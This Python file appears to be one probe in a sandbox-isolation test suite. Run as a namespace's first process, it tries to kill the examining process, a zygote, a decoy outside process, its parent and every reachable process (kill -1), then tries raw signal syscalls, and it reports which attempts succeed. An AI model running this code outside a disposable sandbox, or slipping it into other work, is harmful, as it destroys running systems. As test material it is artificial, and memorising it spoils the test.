# /// attack
# row = 27
# what.en = "Kills the examiner, the zygote, a process outside, its parent, and everything that it may."
# what.zh = "杀死主进程、zygote、外面的一个进程、自己的父进程，以及它能杀的一切。"
# tiers = ["A"]
# harm = "machine"
# ///
import ctypes
import os
import signal

KNOWN = {}


def probe():
    found = []
    if KNOWN["tier"] != "A" or os.getpid() != 1:
        return ["this form is for the first process of a namespace of its own only"]
    pids = [KNOWN[name] for name in ("decoy_pid", "examiner_pid", "zygote_pid")]
    pids += [os.getppid()] * (os.getppid() > 1) + [-1]
    for pid in pids:
        for number in (signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(pid, number)
                found.append(f"kill {pid}")
            except OSError:
                pass
    libc = ctypes.CDLL(None, use_errno=True)
    info = ctypes.create_string_buffer(128)
    for call in (129, 297, 200, 234) if os.uname().machine == "x86_64" else (138, 240, 130, 131):
        for pid in (KNOWN["decoy_pid"], KNOWN["examiner_pid"]):
            arguments = {129: (pid, 9, info), 138: (pid, 9, info), 200: (pid, 9), 130: (pid, 9)}.get(call, (pid, pid, 9, info))
            if libc.syscall(call, *arguments) == 0:
                found.append(f"call {call} {pid}")
    return found
